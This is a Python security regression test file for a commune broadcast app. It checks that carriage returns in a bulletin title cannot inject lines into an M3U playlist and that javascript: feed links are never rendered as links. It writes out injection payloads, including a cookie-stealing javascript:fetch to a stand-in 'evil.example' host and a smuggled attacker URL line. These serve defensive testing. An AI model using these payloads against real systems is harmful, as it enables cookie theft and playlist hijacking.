"""Attacks 6 and 9: a carriage return in a bulletin title added an attacker's URL line to ``today.m3u`` (loudspeaker
controllers would play it); a feed item link ``javascript:…`` was rendered as a clickable link on the bulletin page
(only the CSP stopped it)."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select

from api.bulletins.models import Bulletin, NewsFeed
from api.bulletins.sources import refresh_feed
from api.communes.service import get_commune
from api.db import transaction
from api.infra import outbound
from broadcast.settings import BroadcastSettings
from tests.broadcast.conftest import (  # noqa: F401  (fixtures)
    StaffMember,
    _running_fake,
    approver,
    broadcast_app,
    broadcast_settings,
    fake_edge,
    make_member,
    writer,
)
from tests.broadcast.test_publishing import later_today, publish
from tests.security.conftest import Account, start_gateway
from tests.security.servers import RecordingServer

EVIL = "http://attacker.example/evil.mp3"


@pytest.mark.slow
def test_a_carriage_return_in_a_title_adds_no_playlist_line(
    client: TestClient,
    writer: StaffMember,  # noqa: F811
    approver: StaffMember,  # noqa: F811
    database_url: str,
    tmp_path: Path,
) -> None:
    title = f"Lịch tiêm chủng\r#EXTINF:1,Tin khẩn\r{EVIL}\u2028{EVIL}\x85{EVIL}"
    publish(client, writer, approver, title=title, schedule=[later_today(15).isoformat()])
    gateway = start_gateway(database_url, tmp_path)
    try:
        playlist = httpx.get(f"{gateway.url}/api/v1/broadcast/xa-demo/today.m3u")
        podcast = httpx.get(f"{gateway.url}/api/v1/broadcast/xa-demo/podcast.xml")
    finally:
        gateway.stop()
    assert playlist.status_code == 200
    lines = playlist.text.splitlines()  # splits on \r, \u2028 and \x85 too, as lenient players do
    assert EVIL not in lines and not any(line.startswith(EVIL) for line in lines)
    assert [line for line in lines if line.startswith("http")] == [
        line for line in lines if line.startswith("http") and "/api/v1/broadcast/xa-demo/audio/" in line
    ]
    assert sum(1 for line in lines if line.startswith("#EXTINF")) == 1
    assert podcast.status_code == 200 and "\r" not in podcast.text.split("<title>", 2)[2].split("</title>", 1)[0]


FEED = (
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Tin tỉnh</title>\n'
    "<item><title>Thông báo lịch cắt điện tuần này</title>"
    "<link>javascript:fetch('//evil.example/'+document.cookie)</link><guid>tin-1</guid>"
    "<description>&lt;p&gt;Điện lực huyện thông báo lịch cắt điện để bảo trì đường dây trong tuần này tại "
    "các ấp.&lt;/p&gt;</description></item>\n</channel></rss>"
).encode()


@pytest.mark.slow
def test_a_javascript_feed_link_is_never_a_link(
    app: FastAPI, database_url: str, tmp_path: Path, make_account: Callable[..., Account]
) -> None:
    def serve(handler: object) -> None:
        handler.send_response(200)  # type: ignore[attr-defined]
        handler.send_header("Content-Type", "application/rss+xml")  # type: ignore[attr-defined]
        handler.send_header("Content-Length", str(len(FEED)))  # type: ignore[attr-defined]
        handler.end_headers()  # type: ignore[attr-defined]
        handler.wfile.write(FEED)  # type: ignore[attr-defined]

    officer = make_account("officer")
    with RecordingServer("127.0.0.1", {"/rss.xml": serve}) as portal:
        with transaction(app.state.sessionmaker) as session:
            commune = get_commune(session, slug="xa-demo")
            feed = NewsFeed(commune_id=commune.id, url=portal.url("/rss.xml"), title="Tin tỉnh")
            session.add(feed)
            session.flush()
            feed_id, commune_id = feed.id, commune.id

        async def fetch() -> list[int]:
            async with outbound.guarded_client(allow_private=True) as client:  # the portal is a local test server
                return await refresh_feed(app.state.sessionmaker, client, settings=BroadcastSettings(), feed_id=feed_id)

        created = asyncio.run(fetch())
    assert len(created) == 1
    with transaction(app.state.sessionmaker) as session:
        stored = session.get(Bulletin, created[0])
        assert stored is not None and stored.source_url is None  # refused when stored
        # A row stored before the fix (or by another path) is still not rendered as a link.
        old = Bulletin(
            commune_id=commune_id,
            title="Tin cũ",
            body="Nội dung tin cũ đủ dài để đọc.",
            source_url="javascript:alert(document.domain)",
        )
        session.add(old)
        session.flush()
        ids = [created[0], old.id]
        assert session.scalars(select(Bulletin.id).where(Bulletin.id.in_(ids))).all()
    gateway = start_gateway(database_url, tmp_path)
    try:
        with httpx.Client(base_url=gateway.url, follow_redirects=False) as browser:
            page = browser.get("/staff/login")
            csrf = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
            form = {"login": officer.login, "password": officer.password, "csrf_token": csrf, "next": "/staff"}
            assert browser.post("/staff/login", data=form).status_code == 303
            for bulletin_id in ids:
                html = browser.get(f"/staff/bulletins/{bulletin_id}")
                assert html.status_code == 200, html.text[:300]
                assert 'href="javascript:' not in html.text.lower() and "href='javascript:" not in html.text.lower()
    finally:
        gateway.stop()
